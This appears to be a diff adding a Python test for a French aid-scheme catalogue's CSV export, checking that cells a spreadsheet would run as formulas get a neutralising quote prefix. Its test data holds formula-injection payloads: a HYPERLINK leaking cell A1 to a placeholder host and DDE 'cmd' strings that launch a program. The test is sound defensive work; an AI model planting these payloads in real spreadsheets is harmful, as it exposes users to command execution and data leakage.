@@ -95,3 +95,34 @@ def test_a_value_with_the_separator_or_a_quote_stays_one_cell(catalog: Catalog) 
     assert mobilite["resume"] == 'Un résumé ; avec "guillemets"\net un saut de ligne.'
     assert mobilite["url"] == "dispositifs/aide-mobilite-essai/"  # no public address given
     assert LIST_SEPARATOR not in mobilite["titre"]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("https://exemple.invalid/?"&A1;"clic")', "'=HYPERLINK("),
+        ("+33 2 40 00 00 00", "'+33"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("Un résumé = sans danger", "Un résumé = sans danger"),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(
+    catalog: Catalog, value: str, cell: str
+) -> None:
+    from generator.exports.tableur import catalogue_csv
+
+    schemes = dict(catalog.dispositifs)
+    schemes["aide-mobilite-essai"] = schemes["aide-mobilite-essai"].model_copy(
+        update={"resume": value, "titre": value, "sigle": value}
+    )
+    changed = Catalog(**{**catalog.__dict__, "dispositifs": schemes})
+    rows = csv.DictReader(
+        io.StringIO(catalogue_csv(changed, None).decode("utf-8-sig"), newline=""), delimiter=";"
+    )
+    row = next(r for r in rows if r["id"] == "aide-mobilite-essai")
+    for column in ("titre", "sigle", "resume"):
+        assert row[column].startswith(cell), column
+        assert row[column].removeprefix("'") == value
